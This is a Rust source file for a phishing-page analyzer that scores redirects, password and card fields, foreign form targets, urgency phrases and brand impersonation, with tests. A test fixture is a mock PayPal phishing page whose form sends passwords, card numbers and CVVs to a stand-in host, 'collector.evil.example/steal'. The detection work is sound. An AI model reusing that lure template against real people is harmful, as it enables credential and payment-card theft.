//! Fetched page content heuristics.
//!
//! The page is fetched with redirects disabled on the client; hops are
//! followed here so the chain length and cross-host jumps can be scored.
//! The body is read up to `content.max_bytes` and parsed with `scraper`.

use super::{is_brand_domain, Analyzer, AnalyzerOutput};
use crate::error::AnalyzerError;
use async_trait::async_trait;
use athlethia_core::{AnalyzerKind, ContentConfig, NormalizedTarget, TextClassifier};
use reqwest::header::{CONTENT_TYPE, LOCATION};
use scraper::{Html, Selector};
use std::collections::HashSet;
use std::sync::Arc;
use url::Url;

const REDIRECT_LIMIT: f64 = 0.60;
const CROSS_HOST_REDIRECT: f64 = 0.10;
const PASSWORD_INPUT: f64 = 0.30;
const SENSITIVE_FIELDS: f64 = 0.25;
const FOREIGN_FORM: f64 = 0.20;
const MANY_URGENCY_CUES: f64 = 0.30;
const FEW_URGENCY_CUES: f64 = 0.10;
const BRAND_IMPERSONATION: f64 = 0.25;
const FEW_EXTERNAL_LINKS: f64 = 0.10;

/// Characters of visible text handed to the AI classifier.
const CLASSIFIER_TEXT_LIMIT: usize = 2000;

/// Phrases typical of urgency, prize and account-threat lures.
const URGENCY_CUES: &[&str] = &[
    "urgent",
    "act now",
    "immediately",
    "limited time",
    "expires today",
    "within 24 hours",
    "final notice",
    "account suspended",
    "account will be",
    "verify your account",
    "confirm your identity",
    "unusual activity",
    "congratulations",
    "you have won",
    "you've won",
    "winner",
    "claim your prize",
    "claim now",
    "free gift",
    "click here",
    "double your",
    "guaranteed returns",
];

/// Form field tokens that ask for payment or identity data.
/// Tokens of four letters or more also match as prefixes (`cardnumber`).
const SENSITIVE_TOKENS: &[&str] = &[
    "card", "credit", "cvv", "cvc", "cc", "ssn", "pin", "otp", "iban", "routing", "mpin",
];

/// Outcome of following the redirect chain.
enum Fetched {
    /// The chain was longer than allowed.
    RedirectLimit { hops: usize },
    /// A page was retrieved.
    Page {
        final_url: Url,
        html: String,
        cross_host_hops: Vec<String>,
    },
}

/// What the HTML parser found. Plain data so it can cross await points.
#[derive(Debug, Default)]
struct PageFindings {
    password_inputs: usize,
    sensitive_fields: Vec<String>,
    foreign_form_hosts: Vec<String>,
    urgency_cues: Vec<&'static str>,
    impersonated_brand: Option<String>,
    external_links: usize,
    visible_text: String,
}

/// Fetches the page and scores phishing-form and lure indicators.
pub struct ContentAnalyzer {
    client: reqwest::Client,
    config: ContentConfig,
    brands: Vec<String>,
    classifier: Option<Arc<dyn TextClassifier>>,
}

impl ContentAnalyzer {
    /// Create the analyzer. `client` must not follow redirects itself.
    #[must_use]
    pub fn new(client: reqwest::Client, config: ContentConfig, brands: Vec<String>) -> Self {
        Self {
            client,
            config,
            brands,
            classifier: None,
        }
    }

    /// Blend an AI text classifier into the score.
    #[must_use]
    pub fn with_classifier(mut self, classifier: Arc<dyn TextClassifier>) -> Self {
        self.classifier = Some(classifier);
        self
    }

    async fn fetch(&self, target: &NormalizedTarget) -> Result<Fetched, AnalyzerError> {
        let mut url = Url::parse(target.fetch_url())
            .map_err(|e| AnalyzerError::Parse(format!("invalid fetch URL: {e}")))?;
        let mut hops = 0;
        let mut cross_host_hops = Vec::new();

        loop {
            let mut response = self.client.get(url.clone()).send().await?;
            let status = response.status();

            if status.is_redirection() {
                let Some(location) = response
                    .headers()
                    .get(LOCATION)
                    .and_then(|v| v.to_str().ok())
                else {
                    return Err(AnalyzerError::Http {
                        status: status.as_u16(),
                        url: url.to_string(),
                    });
                };
                let next = url
                    .join(location)
                    .map_err(|e| AnalyzerError::Parse(format!("bad redirect target: {e}")))?;

                hops += 1;
                if hops > self.config.max_redirects {
                    return Ok(Fetched::RedirectLimit { hops });
                }
                if next.host_str() != url.host_str() {
                    cross_host_hops.push(next.host_str().unwrap_or_default().to_string());
                }
                tracing::debug!("Following redirect {} -> {}", url, next);
                url = next;
                continue;
            }

            if !status.is_success() {
                return Err(AnalyzerError::Http {
                    status: status.as_u16(),
                    url: url.to_string(),
                });
            }

            let content_type = response
                .headers()
                .get(CONTENT_TYPE)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("text/html")
                .to_ascii_lowercase();
            if !content_type.contains("html") {
                return Err(AnalyzerError::NotHtml { content_type });
            }

            let mut body = Vec::new();
            while let Some(chunk) = response.chunk().await? {
                let room = self.config.max_bytes.saturating_sub(body.len());
                body.extend_from_slice(&chunk[..chunk.len().min(room)]);
                if body.len() >= self.config.max_bytes {
                    tracing::debug!("Truncated {} at {} bytes", url, body.len());
                    break;
                }
            }

            return Ok(Fetched::Page {
                final_url: url,
                html: String::from_utf8_lossy(&body).into_owned(),
                cross_host_hops,
            });
        }
    }

    fn score_findings(
        &self,
        findings: &PageFindings,
        cross_host_hops: &[String],
        output: &mut AnalyzerOutput,
    ) {
        if !cross_host_hops.is_empty() {
            output.add(
                CROSS_HOST_REDIRECT,
                format!("Redirects across hosts via {}", cross_host_hops.join(" -> ")),
            );
        }
        if findings.password_inputs > 0 {
            output.add(PASSWORD_INPUT, "Page asks for a password");
        }
        if !findings.sensitive_fields.is_empty() {
            output.add(
                SENSITIVE_FIELDS,
                format!(
                    "Form requests sensitive data ({})",
                    findings.sensitive_fields.join(", ")
                ),
            );
        }
        if !findings.foreign_form_hosts.is_empty() {
            output.add(
                FOREIGN_FORM,
                format!(
                    "Form submits to another host ({})",
                    findings.foreign_form_hosts.join(", ")
                ),
            );
        }
        match findings.urgency_cues.len() {
            0 => {}
            1..=3 => output.add(
                FEW_URGENCY_CUES,
                format!("Urgency language: {}", findings.urgency_cues.join(", ")),
            ),
            _ => output.add(
                MANY_URGENCY_CUES,
                format!("Heavy urgency language: {}", findings.urgency_cues.join(", ")),
            ),
        }
        if let Some(brand) = &findings.impersonated_brand {
            output.add(
                BRAND_IMPERSONATION,
                format!("Page presents itself as '{brand}' on an unrelated domain"),
            );
        }
        if findings.external_links < 2 {
            output.add(
                FEW_EXTERNAL_LINKS,
                format!("Only {} link(s) to other sites", findings.external_links),
            );
        }
    }

    async fn blend_classifier(&self, text: &str, output: &mut AnalyzerOutput) {
        let Some(classifier) = &self.classifier else {
            return;
        };
        if text.is_empty() {
            return;
        }

        match classifier.classify_text(text).await {
            Ok(Some(model_score)) if model_score.is_finite() => {
                let model_score = model_score.clamp(0.0, 1.0);
                let weight = self.config.ai_blend_weight;
                output.score =
                    ((1.0 - weight) * output.score + weight * model_score).clamp(0.0, 1.0);
                output.note(format!("AI classifier score {model_score:.2}"));
            }
            Ok(_) => output.note("AI classifier unavailable"),
            Err(e) => {
                tracing::debug!("Text classifier failed: {}", e);
                output.note("AI classifier unavailable");
            }
        }
    }
}

#[async_trait]
impl Analyzer for ContentAnalyzer {
    fn kind(&self) -> AnalyzerKind {
        AnalyzerKind::Content
    }

    async fn analyze(&self, target: &NormalizedTarget) -> Result<AnalyzerOutput, AnalyzerError> {
        let (final_url, html, cross_host_hops) = match self.fetch(target).await? {
            Fetched::RedirectLimit { hops } => {
                return Ok(AnalyzerOutput::with_score(
                    REDIRECT_LIMIT,
                    format!(
                        "Redirect chain longer than {} hops (gave up after {hops})",
                        self.config.max_redirects
                    ),
                ));
            }
            Fetched::Page {
                final_url,
                html,
                cross_host_hops,
            } => (final_url, html, cross_host_hops),
        };

        let findings = inspect_html(&html, &final_url, target.registrable_domain(), &self.brands)?;
        let mut output = AnalyzerOutput::new();
        self.score_findings(&findings, &cross_host_hops, &mut output);
        self.blend_classifier(&findings.visible_text, &mut output).await;
        Ok(output)
    }
}

fn selector(css: &str) -> Result<Selector, AnalyzerError> {
    Selector::parse(css).map_err(|e| AnalyzerError::Internal(format!("selector {css}: {e}")))
}

/// Whether `host` belongs to the site identified by `registrable_domain`.
fn same_site(host: &str, registrable_domain: &str) -> bool {
    host == registrable_domain || host.ends_with(&format!(".{registrable_domain}"))
}

fn tokens(value: &str) -> impl Iterator<Item = &str> {
    value
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|t| !t.is_empty())
}

fn sensitive_token(attribute: &str) -> Option<&'static str> {
    let lower = attribute.to_lowercase();
    let found = tokens(&lower).find_map(|token| {
        SENSITIVE_TOKENS
            .iter()
            .copied()
            .find(|kw| token == *kw || (kw.len() >= 4 && token.starts_with(kw)))
    });
    found
}

/// Parse the page and collect indicator data. Synchronous: `Html` is not `Send`.
fn inspect_html(
    html: &str,
    page_url: &Url,
    registrable_domain: &str,
    brands: &[String],
) -> Result<PageFindings, AnalyzerError> {
    let document = Html::parse_document(html);
    let mut findings = PageFindings::default();
    let page_domain = page_url
        .host_str()
        .map_or_else(|| registrable_domain.to_string(), str::to_lowercase);
    let on_site = |host: &str| same_site(host, registrable_domain) || same_site(host, &page_domain);

    findings.password_inputs = document
        .select(&selector("input[type=password]")?)
        .count();

    let mut sensitive = HashSet::new();
    for input in document.select(&selector("input, select, textarea")?) {
        let element = input.value();
        for attr in ["name", "id", "placeholder", "autocomplete", "aria-label"] {
            if let Some(token) = element.attr(attr).and_then(sensitive_token) {
                sensitive.insert(token);
            }
        }
    }
    let mut sensitive: Vec<String> = sensitive.into_iter().map(str::to_string).collect();
    sensitive.sort();
    findings.sensitive_fields = sensitive;

    for form in document.select(&selector("form[action]")?) {
        let Some(action) = form.value().attr("action") else {
            continue;
        };
        let host = page_url
            .join(action)
            .ok()
            .and_then(|u| u.host_str().map(str::to_lowercase));
        if let Some(host) = host {
            if !on_site(&host) && !findings.foreign_form_hosts.contains(&host) {
                findings.foreign_form_hosts.push(host);
            }
        }
    }

    let mut external_hosts = HashSet::new();
    for link in document.select(&selector("a[href]")?) {
        let Some(href) = link.value().attr("href") else {
            continue;
        };
        if let Ok(resolved) = page_url.join(href) {
            if matches!(resolved.scheme(), "http" | "https") {
                if let Some(host) = resolved.host_str().map(str::to_lowercase) {
                    if !on_site(&host) {
                        external_hosts.insert(host);
                    }
                }
            }
        }
    }
    findings.external_links = external_hosts.len();

    let title = document
        .select(&selector("title")?)
        .next()
        .map(|t| t.text().collect::<String>().to_lowercase())
        .unwrap_or_default();
    findings.visible_text = visible_text(&document);
    let lower_text = findings.visible_text.to_lowercase();

    findings.urgency_cues = URGENCY_CUES
        .iter()
        .copied()
        .filter(|cue| lower_text.contains(cue) || title.contains(cue))
        .collect();

    let title_words: HashSet<&str> = tokens(&title).collect();
    let text_words: HashSet<&str> = tokens(&lower_text).collect();
    findings.impersonated_brand = brands
        .iter()
        .find(|brand| {
            let brand = brand.as_str();
            let claimed = title_words.contains(brand)
                || (findings.password_inputs > 0 && text_words.contains(brand));
            claimed && !is_brand_domain(registrable_domain, brand)
        })
        .cloned();

    Ok(findings)
}

/// Body text outside `script`/`style`, whitespace-collapsed and truncated.
fn visible_text(document: &Html) -> String {
    let mut words: Vec<&str> = Vec::new();
    for node in document.root_element().descendants() {
        let Some(text) = node.value().as_text() else {
            continue;
        };
        let hidden = node
            .parent()
            .and_then(|p| p.value().as_element().map(|e| e.name()))
            .is_some_and(|name| matches!(name, "script" | "style" | "noscript" | "title"));
        if !hidden {
            words.extend(text.split_whitespace());
        }
    }
    words.join(" ").chars().take(CLASSIFIER_TEXT_LIMIT).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use athlethia_core::CollaboratorError;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpListener;

    const PHISHING_PAGE: &str = r#"<html>
<head><title>PayPal - Log In</title></head>
<body>
  <h1>Your account has been suspended</h1>
  <p>URGENT: unusual activity detected. Verify your account within 24 hours
     or it will be closed. Act now!</p>
  <form action="https://collector.evil.example/steal" method="post">
    <input type="email" name="email">
    <input type="password" name="pass">
    <input type="text" name="card_number" placeholder="Card number">
    <input type="text" name="cvv">
  </form>
  <script>var urgent = "not visible";</script>
</body>
</html>"#;

    const ORDINARY_PAGE: &str = r#"<html>
<head><title>Example Blog</title></head>
<body>
  <p>Notes about gardening.</p>
  <form action="/search"><input type="text" name="q"><input type="text" name="shipping"></form>
  <a href="https://docs.rs/">docs</a>
  <a href="https://crates.io/">crates</a>
  <a href="/about">about</a>
</body>
</html>"#;

    fn brands() -> Vec<String> {
        athlethia_core::UrlPatternConfig::default().brands
    }

    fn page_url(raw: &str) -> Url {
        Url::parse(raw).expect("valid url")
    }

    #[test]
    fn test_phishing_page_findings() {
        let url = page_url("https://secure-login.tk/");
        let findings =
            inspect_html(PHISHING_PAGE, &url, "secure-login.tk", &brands()).expect("parse page");

        assert_eq!(findings.password_inputs, 1);
        assert_eq!(findings.sensitive_fields, vec!["card", "cvv"]);
        assert_eq!(findings.foreign_form_hosts, vec!["collector.evil.example"]);
        assert!(findings.urgency_cues.len() > 3);
        assert_eq!(findings.impersonated_brand.as_deref(), Some("paypal"));
        assert_eq!(findings.external_links, 0);
        assert!(!findings.visible_text.contains("not visible"));
    }

    #[test]
    fn test_brand_on_own_domain_is_not_impersonation() {
        let url = page_url("https://www.paypal.com/signin");
        let findings =
            inspect_html(PHISHING_PAGE, &url, "paypal.com", &brands()).expect("parse page");
        assert!(findings.impersonated_brand.is_none());
    }

    #[test]
    fn test_ordinary_page_findings() {
        let url = page_url("https://blog.example.com/");
        let findings =
            inspect_html(ORDINARY_PAGE, &url, "example.com", &brands()).expect("parse page");

        assert_eq!(findings.password_inputs, 0);
        assert!(findings.sensitive_fields.is_empty());
        assert!(findings.foreign_form_hosts.is_empty());
        assert!(findings.urgency_cues.is_empty());
        assert!(findings.impersonated_brand.is_none());
        assert_eq!(findings.external_links, 2);
    }

    #[test]
    fn test_sensitive_tokens() {
        assert_eq!(sensitive_token("cardNumber"), Some("card"));
        assert_eq!(sensitive_token("cc-number"), Some("cc"));
        assert_eq!(sensitive_token("user_pin"), Some("pin"));
        assert_eq!(sensitive_token("shipping"), None);
        assert_eq!(sensitive_token("spinner"), None);
    }

    /// Serve canned responses: `/page`, `/pdf`, `/hop/N` (redirect to N+1), anything else 404.
    async fn spawn_server() -> String {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let addr = listener.local_addr().expect("local addr");
        tokio::spawn(async move {
            loop {
                let Ok((mut socket, _)) = listener.accept().await else {
                    break;
                };
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 4096];
                    let mut read = 0;
                    while !buf[..read].windows(4).any(|w| w == b"\r\n\r\n") {
                        match socket.read(&mut buf[read..]).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => read += n,
                        }
                    }
                    let request = String::from_utf8_lossy(&buf[..read]).to_string();
                    let path = request.split_whitespace().nth(1).unwrap_or("/").to_string();
                    let response = respond(&path);
                    let _ = socket.write_all(response.as_bytes()).await;
                    let _ = socket.shutdown().await;
                });
            }
        });
        format!("http://{addr}")
    }

    fn respond(path: &str) -> String {
        let (status, headers, body) = if path == "/page" {
            ("200 OK", "Content-Type: text/html; charset=utf-8\r\n".to_string(), PHISHING_PAGE.to_string())
        } else if path == "/pdf" {
            ("200 OK", "Content-Type: application/pdf\r\n".to_string(), "%PDF-1.4".to_string())
        } else if let Some(n) = path.strip_prefix("/hop/").and_then(|n| n.parse::<u32>().ok()) {
            ("302 Found", format!("Location: /hop/{}\r\n", n + 1), String::new())
        } else {
            ("404 Not Found", "Content-Type: text/html\r\n".to_string(), "missing".to_string())
        };
        format!(
            "HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    }

    fn analyzer() -> ContentAnalyzer {
        let config = ContentConfig::default();
        let client = crate::http::build_client(&config, std::time::Duration::from_secs(5))
            .expect("http client");
        ContentAnalyzer::new(client, config, brands())
    }

    fn target(raw: &str) -> NormalizedTarget {
        NormalizedTarget::parse(raw).expect("valid target")
    }

    struct FixedClassifier(Option<f64>);

    #[async_trait]
    impl TextClassifier for FixedClassifier {
        async fn classify_text(&self, _text: &str) -> Result<Option<f64>, CollaboratorError> {
            Ok(self.0)
        }
    }

    #[tokio::test]
    async fn test_fetch_and_score_page() {
        let base = spawn_server().await;
        let output = analyzer()
            .analyze(&target(&format!("{base}/page")))
            .await
            .expect("page analysis");
        assert!(output.score > 0.9);
        assert!(output.evidence.iter().any(|e| e.contains("password")));
    }

    #[tokio::test]
    async fn test_redirect_chain_limit() {
        let base = spawn_server().await;
        let output = analyzer()
            .analyze(&target(&format!("{base}/hop/0")))
            .await
            .expect("redirect analysis");
        assert!((output.score - REDIRECT_LIMIT).abs() < f64::EPSILON);
        assert!(output.evidence[0].contains("Redirect chain"));
    }

    #[tokio::test]
    async fn test_non_html_and_missing_are_stable_failures() {
        let base = spawn_server().await;
        let pdf = analyzer()
            .analyze(&target(&format!("{base}/pdf")))
            .await
            .expect_err("pdf rejected");
        assert!(matches!(pdf, AnalyzerError::NotHtml { .. }));
        assert!(pdf.is_stable());

        let missing = analyzer()
            .analyze(&target(&format!("{base}/missing")))
            .await
            .expect_err("404 rejected");
        assert!(matches!(missing, AnalyzerError::Http { status: 404, .. }));
        assert!(missing.is_stable());
    }

    #[tokio::test]
    async fn test_unreachable_host_is_transient() {
        let err = analyzer()
            .analyze(&target("http://127.0.0.1:9/"))
            .await
            .expect_err("nothing listens on port 9");
        assert!(matches!(err, AnalyzerError::Network(_)));
        assert!(!err.is_stable());
    }

    #[tokio::test]
    async fn test_classifier_blend() {
        let base = spawn_server().await;
        let analyzer = analyzer().with_classifier(Arc::new(FixedClassifier(Some(0.0))));
        let output = analyzer
            .analyze(&target(&format!("{base}/page")))
            .await
            .expect("page analysis");
        // Heuristic score saturates at 1.0; the model pulls it down by the blend weight.
        assert!((output.score - 0.6).abs() < 1e-9);
        assert!(output.evidence.iter().any(|e| e.contains("AI classifier score")));

        let unavailable = super::ContentAnalyzer::new(
            reqwest::Client::new(),
            ContentConfig::default(),
            brands(),
        )
        .with_classifier(Arc::new(FixedClassifier(None)));
        let mut output = AnalyzerOutput::with_score(0.5, "heuristics");
        unavailable.blend_classifier("some text", &mut output).await;
        assert!((output.score - 0.5).abs() < f64::EPSILON);
        assert!(output.evidence.iter().any(|e| e == "AI classifier unavailable"));
    }
}
